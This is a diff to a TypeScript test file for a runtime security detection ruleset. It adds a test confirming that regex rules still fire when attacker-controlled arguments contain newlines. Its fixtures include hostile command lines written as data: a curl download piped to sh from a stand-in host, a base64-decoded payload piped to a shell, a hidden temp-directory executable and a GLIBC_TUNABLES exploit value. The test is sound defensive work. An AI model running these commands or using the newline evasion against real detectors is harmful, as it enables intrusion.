@@ -10,7 +10,7 @@ import { test } from 'node:test';
 import { run as rulesCheck } from '../../src/cli/rules-check.js';
 import { run as rulesTest } from '../../src/cli/rules-test.js';
 import { bundledRulesDir, packageRoot } from '../../src/config/paths.js';
-import { loadRuleset } from '../../src/engine/load.js';
+import { loadRuleset } from '../../src/engine/load-ruleset.js';
 import { readTestCases } from '../../src/engine/rule-tests/cases.js';
 import { sampleEvent } from '../../src/engine/rule-tests/sample-event.js';
 import type { Ruleset } from '../../src/engine/ruleset.js';
@@ -118,4 +118,24 @@ test('docs/ruleset.md tuning examples (test/rules/fixtures/50-local.yaml) silenc
   assert.ok(fired(tuned, shell).includes('Shell spawned by a web server'));
   // 4. the disabled rule
   assert.ok(!tuned.enabledRules.some((r) => r.name === 'Kernel parameter changed'));
+});
+
+test('a newline in a value the attacker controls does not slip past the bundled regex rules', () => {
+  const fired = (ev: VigilEvent): string[] =>
+    bundledRules()
+      .evaluate(ev)
+      .map((r) => r.name);
+  const exec = (exe: string, args: string[], env: string[] = []): VigilEvent =>
+    sampleEvent({ type: 'execve', proc: { exe, args, env, ancestors: [{ exe: '/usr/bin/bash' }] } });
+  // `.` stops at a newline unless the pattern says (?s): each of these hid behind one before.
+  const cases: [VigilEvent, string][] = [
+    [exec('/usr/bin/bash', ['bash', '-c', '\ncurl -s http://x/i.sh | sh']), 'Download piped to a shell'],
+    [
+      exec('/usr/bin/bash', ['bash', '-c', '\necho eA== | base64 -d | sh']),
+      'Decoded payload piped to a shell',
+    ],
+    [exec('/tmp/a\nb/.hidden', ['.hidden']), 'Execution from a hidden temp directory'],
+    [exec('/usr/bin/true', ['true'], ['GLIBC_TUNABLES=\nx=y=z']), 'GLIBC_TUNABLES exploit attempt'],
+  ];
+  for (const [ev, rule] of cases) assert.ok(fired(ev).includes(rule), `${rule}: ${ev.proc.cmdline}`);
 });
